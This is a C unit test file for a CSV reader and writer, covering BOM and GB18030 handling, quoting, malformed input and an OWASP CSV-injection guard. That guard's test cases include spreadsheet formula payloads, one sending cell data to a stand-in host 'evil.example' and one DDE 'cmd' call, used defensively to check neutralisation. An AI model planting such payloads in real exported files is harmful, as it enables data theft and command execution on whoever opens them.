/* CSV reader and writer (domain/csv.c): BOM, GB18030, quoting, line breaks,
 * ragged rows, trailing lines, malformed input with its row, a writer
 * whose output reads back to the same cells, and the formula guard. */
#include <iconv.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "domain/csv.h"

/* Reads every record of a body into a printable form: cells joined by '|',
 * records by '/'. Returns the reader's last code (0 at the end, -1 on error);
 * *reader stays open for inspection (caller closes). */
static int read_all(const char *data, size_t len, const char *charset, int detect, char *out, size_t size,
                    yq_csv_t **reader) {
    char why[200];
    yq_csv_t *c;
    int rc = yq_csv_open(data, len, charset, detect, &c, why, sizeof why);
    if (rc) {
        print_error("open: %s\n", why);
        return -2;
    }
    size_t used = 0;
    out[0] = '\0';
    char **cells;
    size_t n;
    while ((rc = yq_csv_next(c, &cells, &n)) == 1) {
        for (size_t i = 0; i < n; i++)
            used += (size_t)snprintf(out + used, size - used, "%s%s", i ? "|" : "", cells[i]);
        used += (size_t)snprintf(out + used, size - used, "/");
    }
    *reader = c;
    return rc;
}

static void expect(const char *data, const char *want) {
    char got[1024];
    yq_csv_t *c;
    assert_int_equal(read_all(data, strlen(data), "utf-8", 0, got, sizeof got, &c), 0);
    assert_string_equal(got, want);
    yq_csv_close(c);
}

static void test_plain_and_line_endings(void **state) {
    (void)state;
    expect("name,model\n扫描电镜,Gemini 300\n", "name|model/扫描电镜|Gemini 300/");
    expect("name,model\r\nSEM,Gemini 300\r\n", "name|model/SEM|Gemini 300/");
    expect("name,model\rSEM,Gemini 300\r", "name|model/SEM|Gemini 300/"); /* old Mac CR */
    expect("a,b\n1,2", "a|b/1|2/");                                       /* no final newline */
    expect("a,b,\n1,,\n", "a|b|/1||/");                                   /* trailing commas */
    expect("", "");
}

static void test_bom(void **state) {
    (void)state;
    expect("\xEF\xBB\xBFname,model\r\nNMR,AVANCE NEO 400\r\n", "name|model/NMR|AVANCE NEO 400/");
    expect("\xEF\xBB\xBF", "");
    /* A UTF-8 BOM wins over a declared gb18030. */
    char got[256];
    yq_csv_t *c;
    const char *body = "\xEF\xBB\xBF名称\r\n质谱\r\n";
    assert_int_equal(read_all(body, strlen(body), "gb18030", 0, got, sizeof got, &c), 0);
    assert_string_equal(got, "名称/质谱/");
    assert_string_equal(yq_csv_charset(c), "utf-8");
    yq_csv_close(c);
}

static void test_quoted_fields(void **state) {
    (void)state;
    const char *body = "name,functions,note\r\n"
                       "\"SEM, field emission\",\"Imaging\r\nand EDS\",\"say \"\"hi\"\"\"\r\n"
                       "\"\",\"\"\"\",plain\r\n";
    char got[512];
    yq_csv_t *c;
    assert_int_equal(read_all(body, strlen(body), "utf-8", 0, got, sizeof got, &c), 0);
    assert_string_equal(got, "name|functions|note/SEM, field emission|Imaging\nand EDS|say \"hi\"/|\"|plain/");
    yq_csv_close(c);
    /* Record numbers and the lines they start on. */
    char why[200];
    assert_int_equal(yq_csv_open(body, strlen(body), NULL, 0, &c, why, sizeof why), 0);
    char **cells;
    size_t n;
    assert_int_equal(yq_csv_record(c), SIZE_MAX);
    assert_int_equal(yq_csv_next(c, &cells, &n), 1);
    assert_int_equal(yq_csv_record(c), 0);
    assert_int_equal(yq_csv_line(c), 1);
    assert_int_equal(yq_csv_next(c, &cells, &n), 1);
    assert_int_equal(yq_csv_record(c), 1);
    assert_int_equal(yq_csv_line(c), 2);
    assert_int_equal(yq_csv_next(c, &cells, &n), 1);
    assert_int_equal(yq_csv_record(c), 2);
    assert_int_equal(yq_csv_line(c), 4); /* the quoted line break took line 3 */
    assert_int_equal(yq_csv_next(c, &cells, &n), 0);
    assert_int_equal(yq_csv_next(c, &cells, &n), 0);
    yq_csv_close(c);
    /* A quote inside an unquoted cell is a character, as Excel reads it. */
    expect("a,b\n12\" monitor,2\n", "a|b/12\" monitor|2/");
}

static void test_ragged_and_blank_rows(void **state) {
    (void)state;
    char why[200];
    yq_csv_t *c;
    const char *body = "a,b,c\n1,2\n1,2,3,4\n\n5,6,7\n\n";
    assert_int_equal(yq_csv_open(body, strlen(body), "utf-8", 0, &c, why, sizeof why), 0);
    size_t want[] = {3, 2, 4, 1, 3, 1};
    char **cells;
    size_t n;
    for (size_t i = 0; i < sizeof want / sizeof want[0]; i++) {
        assert_int_equal(yq_csv_next(c, &cells, &n), 1);
        assert_int_equal(n, want[i]);
    }
    assert_string_equal(cells[0], ""); /* the last blank line */
    assert_int_equal(yq_csv_next(c, &cells, &n), 0);
    yq_csv_close(c);
    /* One trailing newline adds no record. */
    expect("a,b\n1,2\n", "a|b/1|2/");
    expect("a,b\r\n1,2\r\n\r\n", "a|b/1|2//");
}

/* UTF-8 -> GB18030 with iconv, into a malloc'd buffer. */
static char *to_gb18030(const char *utf8, size_t *len) {
    iconv_t cd = iconv_open("GB18030", "UTF-8");
    assert_true(cd != (iconv_t)-1);
    size_t in_left = strlen(utf8), out_left = in_left * 2 + 8;
    char *out = malloc(out_left), *dst = out, *src = (char *)utf8;
    assert_true(iconv(cd, &src, &in_left, &dst, &out_left) != (size_t)-1);
    iconv_close(cd);
    *len = (size_t)(dst - out);
    return out;
}

static void test_gb18030(void **state) {
    (void)state;
    /* Fixed bytes: 名称,型号 / 扫描电镜,"Gemini 300" / € and an emoji (a
     * four-byte GB18030 sequence). */
    static const char body[] = "\xC3\xFB\xB3\xC6,\xD0\xCD\xBA\xC5\r\n"
                               "\xC9\xA8\xC3\xE8\xB5\xE7\xBE\xB5,\"Gemini 300\"\r\n"
                               "\xA2\xE3,\x94\x39\xFC\x36\r\n";
    char got[256];
    yq_csv_t *c;
    assert_int_equal(read_all(body, sizeof body - 1, "gb18030", 0, got, sizeof got, &c), 0);
    assert_string_equal(got, "名称|型号/扫描电镜|Gemini 300/€|😀/");
    assert_string_equal(yq_csv_charset(c), "gb18030");
    yq_csv_close(c);
    /* Undeclared (utf-8 by default) with detection: read as GB18030. */
    assert_int_equal(read_all(body, sizeof body - 1, "utf-8", 1, got, sizeof got, &c), 0);
    assert_string_equal(got, "名称|型号/扫描电镜|Gemini 300/€|😀/");
    yq_csv_close(c);
    /* Made with iconv, quoted cells with a comma and a line break inside. */
    size_t len;
    char *gb = to_gb18030("仪器名称,主要功能\r\n\"液相色谱-质谱联用仪\",\"定性，定量,\r\n代谢组学\"\r\n", &len);
    assert_int_equal(read_all(gb, len, "gb18030", 0, got, sizeof got, &c), 0);
    assert_string_equal(got, "仪器名称|主要功能/液相色谱-质谱联用仪|定性，定量,\n代谢组学/");
    yq_csv_close(c);
    free(gb);
}

static void test_invalid_bytes_name_the_row(void **state) {
    (void)state;
    char why[200];
    yq_csv_t *c = (yq_csv_t *)1;
    /* 0x81 0x20 is no GB18030 character: data row 2. */
    static const char gb[] = "a,b\r\n1,2\r\n\"x\r\ny\",\x81\x20\r\n";
    assert_int_equal(yq_csv_open(gb, sizeof gb - 1, "gb18030", 0, &c, why, sizeof why), -1);
    assert_null(c);
    assert_non_null(strstr(why, "data row 2"));
    /* A truncated sequence at the very end of the header. */
    static const char cut[] = "a,\xC3";
    assert_int_equal(yq_csv_open(cut, sizeof cut - 1, "gb18030", 0, &c, why, sizeof why), -1);
    assert_non_null(strstr(why, "header row"));
    /* Invalid UTF-8 without detection. */
    static const char u8[] = "a,b\n1,2\n3,\xC9\xA8\xC3\xE8\n";
    assert_int_equal(yq_csv_open(u8, sizeof u8 - 1, "utf-8", 0, &c, why, sizeof why), -1);
    assert_non_null(strstr(why, "not valid UTF-8"));
    assert_non_null(strstr(why, "data row 2"));
    /* Valid in neither charset: 0xFF. Overlong UTF-8 and surrogates too. */
    static const char ff[] = "a\n\xFF\n";
    assert_int_equal(yq_csv_open(ff, sizeof ff - 1, "utf-8", 1, &c, why, sizeof why), -1);
    assert_non_null(strstr(why, "data row 1"));
    assert_int_equal(yq_csv_open("\xC0\xAF", 2, "utf-8", 0, &c, why, sizeof why), -1);
    assert_int_equal(yq_csv_open("\xED\xA0\x80", 3, "utf-8", 0, &c, why, sizeof why), -1);
    /* NUL bytes and unknown charsets. */
    assert_int_equal(yq_csv_open("a\n1\0,2\n", 7, "utf-8", 0, &c, why, sizeof why), -1);
    assert_non_null(strstr(why, "NUL"));
    assert_int_equal(yq_csv_open("a", 1, "latin1", 0, &c, why, sizeof why), -1);
    assert_non_null(strstr(why, "charset"));
}

static void test_malformed_quoting(void **state) {
    (void)state;
    char got[256];
    yq_csv_t *c;
    const char *open_quote = "a,b\n1,2\n\"never closed,3\n4,5\n";
    assert_int_equal(read_all(open_quote, strlen(open_quote), "utf-8", 0, got, sizeof got, &c), -1);
    assert_string_equal(got, "a|b/1|2/");
    assert_int_equal(yq_csv_error_row(c), 2);
    assert_non_null(strstr(yq_csv_error(c), "not closed"));
    assert_non_null(strstr(yq_csv_error(c), "line 3"));
    char **cells;
    size_t n;
    assert_int_equal(yq_csv_next(c, &cells, &n), -1); /* stays failed */
    yq_csv_close(c);

    const char *after = "a,b\n\"x\"y,2\n";
    assert_int_equal(read_all(after, strlen(after), "utf-8", 0, got, sizeof got, &c), -1);
    assert_int_equal(yq_csv_error_row(c), 1);
    assert_non_null(strstr(yq_csv_error(c), "after the closing quote"));
    yq_csv_close(c);

    const char *header = "\"a\" ,b\n1,2\n";
    assert_int_equal(read_all(header, strlen(header), "utf-8", 0, got, sizeof got, &c), -1);
    assert_int_equal(yq_csv_error_row(c), 0);
    yq_csv_close(c);
}

static void test_writer_round_trip(void **state) {
    (void)state;
    static const char *const cells[] = {"场发射扫描电子显微镜",
                                        "Carl Zeiss, Oberkochen",
                                        "12\" wafer",
                                        "line 1\nline 2",
                                        "",
                                        " padded ",
                                        "plain",
                                        "\"quoted\""};
    const size_t ncells = sizeof cells / sizeof cells[0];
    yq_csv_writer_t *w = yq_csv_writer_new();
    for (int r = 0; r < 2; r++) {
        for (size_t i = 0; i < ncells; i++)
            yq_csv_cell(w, cells[i]);
        yq_csv_end_row(w);
    }
    yq_csv_cell(w, NULL);
    yq_csv_cell(w, "x");
    yq_csv_end_row(w);
    size_t len;
    const char *out = yq_csv_writer_data(w, &len);
    assert_memory_equal(out, "\xEF\xBB\xBF", 3);
    assert_non_null(strstr(out, "\"Carl Zeiss, Oberkochen\",\"12\"\" wafer\",\"line 1\nline 2\",,\" padded \",plain,"));
    assert_memory_equal(out + len - 4, ",x\r\n", 4);

    char why[200];
    yq_csv_t *c;
    assert_int_equal(yq_csv_open(out, len, "utf-8", 0, &c, why, sizeof why), 0);
    char **got;
    size_t n;
    for (int r = 0; r < 2; r++) {
        assert_int_equal(yq_csv_next(c, &got, &n), 1);
        assert_int_equal(n, ncells);
        for (size_t i = 0; i < ncells; i++)
            assert_string_equal(got[i], cells[i]);
    }
    assert_int_equal(yq_csv_next(c, &got, &n), 1);
    assert_int_equal(n, 2);
    assert_string_equal(got[0], "");
    assert_int_equal(yq_csv_next(c, &got, &n), 0);
    yq_csv_close(c);
    yq_csv_writer_free(w);

    /* Without BOM; a first cell starting with ID is quoted (Excel's SYLK). */
    w = yq_csv_writer_create(0);
    yq_csv_cell(w, "ID");
    yq_csv_cell(w, "ID");
    yq_csv_end_row(w);
    assert_string_equal(yq_csv_writer_data(w, NULL), "\"ID\",ID\r\n");
    yq_csv_writer_free(w);
    yq_csv_writer_free(NULL);
    yq_csv_close(NULL);
}

/* CSV injection (OWASP): text a spreadsheet would run as a formula gets a
 * leading apostrophe; plain numbers, negative ones included, do not; and
 * yq_csv_unguard gives back exactly the text that was written. */
static void test_formula_guard(void **state) {
    (void)state;
    static const struct {
        const char *cell, *written;
    } cases[] = {
        {"=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
         "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\""},
        {"+1+cmd|'/C calc'!A0", "'+1+cmd|'/C calc'!A0"},
        {"@SUM(1+1)", "'@SUM(1+1)"},
        {"-2+3", "'-2+3"},
        {"-", "'-"},
        {"\t=1+1", "\"'\t=1+1\""},
        {"'=1+1", "''=1+1"}, /* an apostrophe of its own: one more, so it reads back */
        {"''@x", "'''@x"},
        {"-12.50", "-12.50"}, /* amounts, hours, counts and rates stay numbers */
        {"-3", "-3"},
        {"+86", "+86"},
        {"-0.25%", "-0.25%"},
        {"12.5", "12.5"},
        {"'-5", "'-5"}, /* not guarded: "-5" is a number */
        {"'plain", "'plain"},
        {"a=b", "a=b"},
        {"", ""},
        {"显微镜", "显微镜"},
    };
    const size_t n = sizeof cases / sizeof cases[0];
    for (size_t i = 0; i < n; i++) {
        yq_csv_writer_t *w = yq_csv_writer_create(0);
        yq_csv_cell(w, "x");
        yq_csv_cell(w, cases[i].cell);
        yq_csv_end_row(w);
        char want[256];
        snprintf(want, sizeof want, "x,%s\r\n", cases[i].written);
        size_t len;
        const char *out = yq_csv_writer_data(w, &len);
        assert_string_equal(out, want);

        char why[200];
        yq_csv_t *c;
        assert_int_equal(yq_csv_open(out, len, "utf-8", 0, &c, why, sizeof why), 0);
        char **got;
        size_t ncells;
        assert_int_equal(yq_csv_next(c, &got, &ncells), 1);
        assert_int_equal(ncells, 2);
        assert_string_equal(yq_csv_unguard(got[1]), cases[i].cell);
        yq_csv_close(c);
        yq_csv_writer_free(w);
    }
    assert_int_equal(yq_csv_formula_like(NULL), 0);
    assert_int_equal(yq_csv_formula_like("=1"), 1);
    assert_int_equal(yq_csv_formula_like("-1.5"), 0);
    assert_int_equal(yq_csv_formula_like("-1.5.2"), 1);
    assert_int_equal(yq_csv_formula_like("-1e5"), 1);
    /* A leading CR is guarded too (the reader turns a CR inside quotes into LF,
     * so that cell cannot read back byte for byte in any case). */
    assert_int_equal(yq_csv_formula_like("\r=1+1"), 1);
    /* A hand-written file: an apostrophe before formula text comes off, any other stays. */
    assert_string_equal(yq_csv_unguard("'=A1"), "=A1");
    assert_string_equal(yq_csv_unguard("'\tx"), "\tx");
    assert_string_equal(yq_csv_unguard("'\rx"), "\rx");
    assert_string_equal(yq_csv_unguard("'x"), "'x");
    assert_string_equal(yq_csv_unguard("'"), "'");
    assert_string_equal(yq_csv_unguard(""), "");
}

/* Rewinding reads the same records again, also after an error. */
static void test_rewind(void **state) {
    (void)state;
    static const char body[] = "a,b\r\n1,2\r\n\"open\r\n";
    char why[200];
    yq_csv_t *c;
    assert_int_equal(yq_csv_open(body, sizeof body - 1, "utf-8", 0, &c, why, sizeof why), 0);
    for (int pass = 0; pass < 2; pass++) {
        char **cells;
        size_t n;
        assert_int_equal(yq_csv_next(c, &cells, &n), 1);
        assert_string_equal(cells[0], "a");
        assert_int_equal(yq_csv_next(c, &cells, &n), 1);
        assert_string_equal(cells[1], "2");
        assert_int_equal(yq_csv_record(c), 1);
        assert_int_equal(yq_csv_next(c, &cells, &n), -1);
        assert_int_equal(yq_csv_error_row(c), 2);
        yq_csv_rewind(c);
        assert_string_equal(yq_csv_error(c), "");
    }
    yq_csv_close(c);
}

int main(void) {
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_plain_and_line_endings),
        cmocka_unit_test(test_bom),
        cmocka_unit_test(test_quoted_fields),
        cmocka_unit_test(test_ragged_and_blank_rows),
        cmocka_unit_test(test_gb18030),
        cmocka_unit_test(test_invalid_bytes_name_the_row),
        cmocka_unit_test(test_malformed_quoting),
        cmocka_unit_test(test_writer_round_trip),
        cmocka_unit_test(test_formula_guard),
        cmocka_unit_test(test_rewind),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
